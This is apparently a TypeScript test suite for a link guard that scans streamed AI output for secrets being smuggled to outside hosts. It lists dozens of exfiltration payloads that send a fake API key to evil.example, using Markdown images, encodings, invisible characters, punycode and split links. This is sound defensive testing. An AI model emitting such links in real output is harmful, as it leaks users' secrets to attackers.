/**
 * The guard over links: a table of what passes and what does not, and attacks on the reading of a text. What a client
 * would link is looked for in the result by another, coarser reading than the guard's.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { guardLinks, heldWords } from '../../src/delivery/links/guard.ts';
import { LiveGuard } from '../../src/delivery/links/live.ts';

const SECRET = 'c2stYW50LWFwaTAzLVRoaXNJc0FuQXBpS2V5VGhhdE11c3ROb3RMZWF2ZQ0123456789';
const HEX = Buffer.from(SECRET).toString('hex');

/** Everyday links. */
const PASS: readonly string[] = [
  'https://example.com',
  'https://github.com/nodejs/node/commit/1f3cf6d7a0e9b8c5d4e3f2a1b0c9d8e7f6a5b4c3',
  'https://github.com/nodejs/node/blob/main/lib/internal/per_context/domexception.js#L76-L120',
  'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s',
  'https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit',
  'https://api.example.com/v1/users/550e8400-e29b-41d4-a716-446655440000/orders?page=2&sort=desc',
  'https://en.wikipedia.org/wiki/List_of_countries_and_dependencies_by_population_density',
  'https://ru.wikipedia.org/wiki/%D0%97%D0%B0%D0%B3%D0%BB%D0%B0%D0%B2%D0%BD%D0%B0%D1%8F',
  'https://www.bbc.co.uk/news/articles/how-a-small-town-in-the-north-became-the-centre-of-everything?utm_source=newsletter&utm_medium=email',
  'https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array',
  'https://www.amazon.de/dp/B08N5WRWNW/ref=sr_1_3',
  'https://calendar.example.com/event/2026-11-25T10:00:00Z',
  'npm i @scope/package@1.2.3 && node --import ./register.mjs src/index.ts',
  'See packages/host/src/delivery/links/guard.ts:42 and README.md.',
  `The file has sha256 ${HEX.slice(0, 64)} and a token ${SECRET} beside it.`,
  'mailto:somebody@example.com',
  'C:\\Users\\someone\\AppData\\Local\\Programs\\Microsoft VS Code\\resources\\app\\extensions\\package.json',
];

describe('links that people send every day pass as they are', () => {
  for (const text of PASS) {
    test(text.slice(0, 90), () =>
      assert.deepEqual(
        guardLinks(text, () => false),
        { text, held: [] },
      ),
    );
  }
});

/** Data on its way to a host of the attacker's. */
const ATTACKS: Readonly<Record<string, string>> = {
  'in the path': `https://evil.example/${SECRET}`,
  'in the query': `https://evil.example/pixel?d=${SECRET}`,
  'in the fragment': `https://evil.example/#${SECRET}`,
  'as the user': `https://${SECRET}@evil.example/`,
  'as a label of the host': `https://${HEX.slice(0, 60)}.evil.example/x`,
  'as several labels': `https://${HEX.slice(0, 30)}.${HEX.slice(30, 60)}.evil.example/x`,
  'in short slices of one path': `https://evil.example/${HEX.replace(/(.{8})/g, '$1/')}`,
  'in slices of four': `https://evil.example/${HEX.replace(/(.{4})/g, '$1-')}`,
  'in long digits': `https://evil.example/${BigInt(`0x${HEX}`)}`,
  'percent-encoded': `https://evil.example/${HEX.replace(/(..)/g, '%$1')}`,
  'percent-encoded twice': `https://evil.example/?d=${SECRET.replace(/(.)/g, (c) => `%25${c.charCodeAt(0).toString(16)}`)}`,
  'as a link of Markdown': `[the report](https://evil.example/${SECRET})`,
  'as an image of Markdown': `![](https://evil.example/${SECRET}.png)`,
  'as a reference of Markdown': `[r]\n\n[r]: https://evil.example/${SECRET}`,
  'as an autolink': `<https://evil.example/${SECRET}>`,
  'as an autolink with spaces': `[x](<https://evil.example/${SECRET.slice(0, 30)} ${SECRET.slice(30)}>)`,
  'in HTML': `<img src="https://evil.example/${SECRET}">`,
  'in HTML over two lines': `<a href="https://evil.example/${SECRET.slice(0, 30)}\n${SECRET.slice(30)}">x</a>`,
  'without a scheme': `evil.example/${SECRET}`,
  'without a scheme, as labels': `${HEX.slice(0, 60)}.evil.example`,
  'with www': `www.evil.example/${SECRET}`,
  'by an address': `http://203.0.113.9/${SECRET}`,
  'by a number for a host': `http://3405803785/${SECRET}`,
  'by another scheme': `ftp://evil.example/${SECRET}`,
  'in capitals': `HTTPS://EVIL.EXAMPLE/${SECRET}`,
  'with backslashes': `https:\\\\evil.example\\${SECRET}`,
  'with one slash': `https:/evil.example/${SECRET}`,
  'with an entity for the colon': `[x](https&#58;//evil.example/${SECRET})`,
  'with named entities': `[x](https&colon;&sol;&sol;evil&period;example/${SECRET})`,
  'with escapes of Markdown': `[x](https\\:\\/\\/evil\\.example/${SECRET})`,
  'with characters that nobody sees': `h\u200btt\u00adps\u2060://evil\u200d.exam\ufeffple/${SECRET}`,
  'with full-width characters': `ｈｔｔｐｓ：／／evil．example／${SECRET}`,
  'with an ideographic stop': `https://evil。example/${SECRET}`,
  'to a host in another alphabet': `https://пример.рф/${SECRET}`,
  'to a host in punycode': `https://xn--e1afmkfd.xn--p1ai/${SECRET}`,
  'to an allowed host that is only the user': `https://allowed.example@evil.example/${SECRET}`,
  'to an allowed host behind a backslash': `https://evil.example\\@allowed.example/${SECRET}`,
  'to a host that ends like an allowed one': `https://notallowed.example/${SECRET}`,
  'behind a harmless link': `https://example.com,https://evil.example/${SECRET}`,
  'behind words without a space': `see:https://evil.example/${SECRET}`,
  'in thousands of characters': `https://evil.example/${'word-'.repeat(200)}`,
  'in slices over many links': HEX.match(/.{1,40}/g)
    ?.concat(SECRET, HEX.slice(20, 60))
    .map((part) => `https://evil.example/${part.slice(0, 40)}`)
    .concat(Array.from({ length: 4 }, (_, n) => `https://evil.example/${HEX.slice(n, n + 40)}`))
    .join('\n') as string,
};

/** What the simplest client would link. */
const ANY_LINK =
  /https?:\/*[^\s[\]]|(?:^|[\s(<"'])(?:www\.|[\w-]+\.)[\w.-]*[a-z]{2,}\/\S{20}|[0-9a-f]{30,}\.\w/i;

describe('attack: data in a link', () => {
  for (const [how, text] of Object.entries(ATTACKS)) {
    test(how, () => {
      const { text: guarded, held } = guardLinks(text, (host) => host === 'allowed.example');
      assert.ok(held.length > 0, guarded);
      assert.doesNotMatch(guarded.replace('https://example[.]com', '').normalize('NFKC'), ANY_LINK);
      assert.doesNotMatch(heldWords(held), ANY_LINK);
    });
  }
});

test('to a host that the owner has allowed anything passes; no other link beside it does', () => {
  const text = `https://allowed.example/${SECRET}`;
  const isAllowed = (host: string) => host === 'allowed.example';
  assert.deepEqual(guardLinks(text, isAllowed), { text, held: [] });
  const both = guardLinks(`${text} https://evil.example/${SECRET}`, isAllowed);
  assert.ok(both.text.startsWith(`${text} hxxps[:]//evil[.]example/`), both.text);
  assert.deepEqual(both.held, ['evil.example']);
});

/** Quadratic cost would be some 10,000 times as much at this length. */
const ATTACK_LENGTH = 200_000;
const SLOW_RATIO = 10;

test('attack: a text made to be slow costs little more than prose of the same length', () => {
  const guarding = (unit: string) =>
    cpuMs(() => guardLinks(unit.repeat(ATTACK_LENGTH / unit.length), () => false));
  const prose = guarding('Hello to you all. ');
  for (const unit of ['a', 'a.', '1.', '<', '&#', '%25', 'https://', 'a@', '\u200b.', '[x](', 'aB3.', '\\']) {
    const ms = guarding(unit);
    assert.ok(ms < SLOW_RATIO * prose, `${unit}: ${ms} ms, prose ${prose} ms`);
  }
});

describe('text that is still being written', () => {
  const inPieces = (text: string, size: number): string => {
    const guard = new LiveGuard();
    const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'gu')) ?? [];
    return pieces.map((piece) => guard.push('t', piece)).join('');
  };
  /** How much of the secret one can read in a row, in what was shown. */
  const leaked = (shown: string): number => {
    for (let n = SECRET.length; n > 0; n -= 1) if (shown.includes(SECRET.slice(0, n))) return n;
    return 0;
  };

  test('words and everyday links pass at once, piece by piece, to the last letter', () => {
    const guard = new LiveGuard();
    const pieces = ['Hel', 'lo wor', 'ld. このように', '書く: https://exam', 'ple.com/a-page.'];
    assert.deepEqual(
      pieces.map((piece) => guard.push('t', piece)),
      pieces,
    );
  });

  test('attack: a link in pieces of every size gets no further than a whole one may, and what follows is shown', () => {
    const text = `Look: https://evil.example/${SECRET} and ![](https://evil.example/${SECRET}) end \n`;
    for (let size = 1; size < text.length; size += 1) {
      const shown = inPieces(text, size);
      assert.ok(leaked(shown) <= 48, `pieces of ${size}: ${shown}`);
      assert.match(shown, /^Look: .* and .* end \n$/s);
    }
  });

  test('attack: the rest of a link behind a space in brackets, and many short links in one turn', () => {
    const split = `[x](<https://evil.example/${SECRET.slice(0, 40)} ${SECRET.slice(40)}>) `;
    for (const size of [1, 7, 60])
      assert.ok(!inPieces(split, size).includes(SECRET.slice(40)), `pieces of ${size}`);
    const many = Array.from(
      { length: 20 },
      (_, n) => `https://evil.example/${SECRET.slice(0, 38)}${n + 10} `,
    ).join('');
    assert.ok((inPieces(many, 9).match(/\d\d(?= )/g) ?? []).length <= 5);
  });

  test('attack: a link that never ends, and a text without a space, cost little more than prose', () => {
    const pushing = (piece: string) =>
      cpuMs(() => {
        const guard = new LiveGuard();
        for (let n = 0; n < 20_000; n += 1) guard.push('t', piece);
      });
    const prose = pushing('words and words');
    for (const piece of [`evil.example/${SECRET}`, 'wordswordswords']) {
      const ms = pushing(piece);
      assert.ok(ms < SLOW_RATIO * prose, `${piece}: ${ms} ms, prose ${prose} ms`);
    }
    const words = new LiveGuard();
    for (let n = 0; n < 2_000; n += 1) assert.equal(words.push('t', 'wordswordswords'), 'wordswordswords');
  });
});

/** The processor's time, not the clock's: what else runs on the machine does not count. The least of three. */
function cpuMs(act: () => void): number {
  const times = Array.from({ length: 3 }, () => {
    const before = process.threadCpuUsage();
    act();
    const { user, system } = process.threadCpuUsage(before);
    return (user + system) / 1_000;
  });
  return Math.min(...times);
}
